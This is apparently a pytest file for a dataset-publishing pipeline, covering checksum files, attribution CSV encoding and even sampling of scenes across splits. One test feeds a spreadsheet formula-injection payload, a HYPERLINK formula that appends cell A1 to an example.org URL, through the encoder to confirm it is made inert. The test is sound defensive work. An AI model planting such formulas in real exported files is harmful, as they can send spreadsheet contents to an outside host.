"""Beside a dataset: sums of what is published, who made its objects, and which scenes are shown."""

import csv
import io
import itertools
import subprocess
from pathlib import Path
from typing import cast

import pytest

from pipeline.documents.checksums import SUMS, published_files, renew_sums, stale_sums, write_sums
from pipeline.documents.dataset_documents import write_documents
from pipeline.documents.rights import encode_attribution
from pipeline.documents.sheets import ChosenScene, choose_scenes
from storage.dataset.dataset import Dataset
from storage.dataset.manifest import ShardEntry, read_manifest
from storage.digests import sha256_of_file
from storage.errors import TrilightError
from tests.pipeline.documents.dataset_by_hand import five_scenes
from tests.pipeline.documents.rows_by_hand import row

SHARD = "train-000000.tar"


def checked(folder: Path) -> list[str]:
    """Return the files that coreutils find to be others than the sums say."""
    command = ["sha256sum", "--quiet", "-c", SUMS]
    done = subprocess.run(command, cwd=folder, capture_output=True, text=True, check=False)
    return sorted(line.partition(": ")[0] for line in done.stdout.splitlines())


@pytest.mark.usefixtures("bare_reports")
def test_documents_that_are_written_again_have_their_sums(tmp_path: Path) -> None:
    dataset = five_scenes(tmp_path / "set")
    root = dataset.folder.root
    dataset.folder.report.write_text("an older report")
    write_sums(root)
    write_documents(dataset)
    assert checked(root) == [] == stale_sums(root)
    vouched = ("LICENSE.md", "README.md", "attribution.csv", "croissant.json")
    documents = read_manifest(dataset.folder.manifest).documents
    assert documents == {name: sha256_of_file(root / name) for name in vouched}
    names = {line.partition("  ")[2] for line in (root / SUMS).read_text().splitlines()}
    assert names == {p.relative_to(root).as_posix() for p in published_files(root)} - {SUMS}


def test_a_damaged_shard_keeps_the_sum_that_it_had(tmp_path: Path) -> None:
    for name in (SHARD, "report.html", "old.html"):
        (tmp_path / name).write_text(name)
    (tmp_path / "logs").mkdir()
    (tmp_path / "logs" / "x.jsonl").write_text("{}")
    write_sums(tmp_path)
    assert "logs" not in (tmp_path / SUMS).read_text()
    (tmp_path / SHARD).write_text("damaged")
    (tmp_path / "report.html").write_text("another")
    (tmp_path / "old.html").unlink()
    (tmp_path / "new.html").write_text("new")
    assert stale_sums(tmp_path) == ["new.html", "old.html", "report.html"]
    renew_sums(tmp_path)
    assert stale_sums(tmp_path) == [] and checked(tmp_path) == [SHARD]


def test_what_is_no_sum_is_one_sentence(tmp_path: Path) -> None:
    renew_sums(tmp_path)
    assert list(tmp_path.iterdir()) == [] == stale_sums(tmp_path)
    (tmp_path / SUMS).write_text("nothing\n")
    for use in (renew_sums, stale_sums):
        with pytest.raises(TrilightError, match="nothing is no sum"):
            use(tmp_path)


def cells(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode(), newline="")))


def test_rows_are_sorted_complete_and_come_back_as_they_were() -> None:
    read = cells(encode_attribution([row("b"), row("a", attribution="somebody, and others")]))
    assert [entry["uid"] for entry in read] == ["a", "b"]
    assert list(read[0])[:4] == ["uid", "title", "licence", "licence_source"]
    assert read[0] == {
        "uid": "a",
        "title": "Ball",
        "licence": "CC0-1.0",
        "licence_source": "tests",
        "attribution": "somebody, and others",
        "source_url": "https://example.org/ball",
        "changes": "cleaned, remeshed and given new materials",
    }
    for text in ['a "quoted" name', "a;b,c", "line\nbreak", "élan 高", "a=1", ""]:
        (again,) = cells(encode_attribution([row(title=text)]))
        assert again["title"] == text
    assert encode_attribution([]).count(b"\n") == 1


def test_formulas_are_made_inert() -> None:
    fields = ["uid", "title", "licence", "licence_source", "attribution", "source_url"]
    for field, start in itertools.product(fields, ["=", "+", "-", "@", "\t", "\r"]):
        formula = f'{start}HYPERLINK("https://example.org/?"&A1)'
        (read,) = cells(encode_attribution([row(**{field: formula})]))
        assert read[field] == "'" + formula


class Listed:
    """What is chosen from: shards of four scenes, keys numbered through; no file is there."""

    def __init__(self, **counts: int) -> None:
        self.opened: list[str] = []
        self._keys: dict[ShardEntry, list[str]] = {}
        key = itertools.count()
        for split, count in counts.items():
            for first in range(0, count, 4):
                held = [f"{next(key):09d}" for _ in range(min(4, count - first))]
                name = f"{split}-{len(self._keys):06d}.tar"
                shard = ShardEntry(
                    name=name, split=split, num_samples=len(held), num_bytes=0, sha256=""
                )
                self._keys[shard] = held

    def shards_of(self, split: str) -> list[ShardEntry]:
        return [shard for shard in self._keys if shard.split == split]

    def keys(self, shard: ShardEntry) -> list[str]:
        self.opened.append(shard.name)
        return self._keys[shard]


def chosen_of(max_scenes: int, **counts: int) -> list[ChosenScene]:
    return choose_scenes(cast(Dataset, Listed(**counts)), max_scenes)


def test_all_are_chosen_where_there_are_few_and_exactly_as_many_as_asked_for() -> None:
    chosen = chosen_of(48, test=3, train=5)
    assert [entry.split for entry in chosen] == ["train"] * 5 + ["test"] * 3
    assert [int(entry.key) for entry in chosen] == [3, 4, 5, 6, 7, 0, 1, 2]
    for count in range(12):
        keys = [entry.key for entry in chosen_of(count, train=4, validation=4, test=4)]
        assert len(keys) == len(set(keys)) == count


def test_small_splits_are_seen() -> None:
    chosen = chosen_of(48, train=4000, validation=20, test=3)
    splits = [entry.split for entry in chosen]
    assert (splits.count("validation"), splits.count("test")) == (6, 3)
    assert len(set(entry.key for entry in chosen)) == len(chosen) == 48
    train = [int(entry.key) for entry in chosen if entry.split == "train"]
    gaps = [after - before for before, after in itertools.pairwise(train)]
    assert (train[0], train[-1]) == (0, 3999)
    assert max(gaps) - min(gaps) <= 1


def test_only_shards_of_chosen_scenes_are_opened() -> None:
    listed = Listed(train=4000, test=40)
    chosen = choose_scenes(cast(Dataset, listed), 10)
    assert sorted(listed.opened) == sorted({entry.shard.name for entry in chosen})
